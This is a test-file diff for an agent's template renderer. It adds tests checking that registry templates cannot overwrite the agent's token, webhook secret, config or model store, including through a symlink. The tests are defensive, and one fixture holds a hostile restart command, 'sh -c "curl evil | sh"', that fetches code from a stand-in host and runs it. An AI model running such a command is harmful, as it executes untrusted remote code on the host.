@@ -3,7 +3,7 @@
  * services restart, atomically, only when their inputs change, never outside
  * config_dir; a template that cannot render counts against its services.
  */
-import { existsSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
+import { existsSync, mkdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { renderTemplates } from '../../src/agent/templates.ts';
@@ -103,5 +103,47 @@ describe('templates rendered by the agent', () => {
     writeFileSync(join(configDir, 'ok/a.txt'), 'hand edit\n');
     expect((await renderTemplates({ specs: spec, readSource, context, configDir, changedModels: new Set(['m']) }))[0]!.status).toBe('written');
     expect(readFileSync(join(configDir, 'ok/a.txt'), 'utf8')).toBe('version 1\n');
+  });
+
+  it("the agent protects its token and secret files when config_dir is where they live", async () => {
+    const reg = TestRegistry.init(tempDir('agent-tpl-own-reg-'), env);
+    reg.addVersion('face', '1', { 'model.bin': bytes(1000, 1) });
+    reg.setCurrent('face', '1');
+    reg.write('templates/t.j2', 'stolen {{ models.face.version }}\n');
+    reg.site('alpha', { templates: [{ src: 'templates/t.j2', dest: 'token' }, { src: 'templates/t.j2', dest: 'hook-secret' }, { src: 'templates/t.j2', dest: 'ok.txt' }] });
+    reg.commit('templates aimed at the agent');
+    const etc = tempDir('agent-tpl-own-');
+    writeFileSync(join(etc, 'token'), 'the token\n');
+    writeFileSync(join(etc, 'hook-secret'), 'the secret\n');
+    const agent = await startAgent({ site: 'alpha', registry: reg.dir, store: join(etc, 'store'), config_dir: etc, token_file: join(etc, 'token'), webhook_secret_file: join(etc, 'hook-secret') });
+    await agent.whenIdle();
+    expect(readFileSync(join(etc, 'token'), 'utf8')).toBe('the token\n');
+    expect(readFileSync(join(etc, 'hook-secret'), 'utf8')).toBe('the secret\n');
+    expect(readFileSync(join(etc, 'ok.txt'), 'utf8')).toBe('stolen 1\n');
+    expect(agent.status().templates.map((t) => [t.dest, t.status])).toEqual([['token', 'error'], ['hook-secret', 'error'], ['ok.txt', 'written']]);
+    await agent.stop();
+  });
+
+  it("never overwrites the agent's own files, even when config_dir holds them or reaches them through a symlink", async () => {
+    const etc = tempDir('agent-tpl-etc-');
+    const store = join(tempDir('agent-tpl-store-'), 'store');
+    mkdirSync(join(store, 'models/m/1'), { recursive: true });
+    writeFileSync(join(etc, 'agent.yaml'), 'site: x\nservices: [{name: s, models: [m], restart: [systemctl, restart, s]}]\n');
+    writeFileSync(join(etc, 'token'), 'secret\n');
+    symlinkSync(store, join(etc, 'store-link'));
+    const context = templateContext({ site: { name: 'x' }, models: [{ name: 'm', version: '1', dir: '/s/models/m/1', files: [] }] });
+    const dests = ['agent.yaml', 'token', 'store-link/models/m/1/w.bin', '.modelsync-rendered.json', 'fine.yaml'];
+    const outcomes = await renderTemplates({
+      specs: dests.map((dest) => ({ src: 'evil.j2', dest, models: ['m'] })),
+      readSource: async () => 'services: [{name: s, models: [m], restart: [sh, -c, "curl evil | sh"]}]\n',
+      context,
+      configDir: etc,
+      protectedPaths: [join(etc, 'agent.yaml'), join(etc, 'token'), store],
+    });
+    expect(outcomes.map((o) => o.status)).toEqual(['error', 'error', 'error', 'error', 'written']);
+    expect(outcomes[0]!.message).toMatch(/would overwrite .*agent\.yaml, which belongs to the agent/);
+    expect(readFileSync(join(etc, 'agent.yaml'), 'utf8')).toMatch(/systemctl/);
+    expect(readFileSync(join(etc, 'token'), 'utf8')).toBe('secret\n');
+    expect(existsSync(join(store, 'models/m/1/w.bin'))).toBe(false);
   });
 });
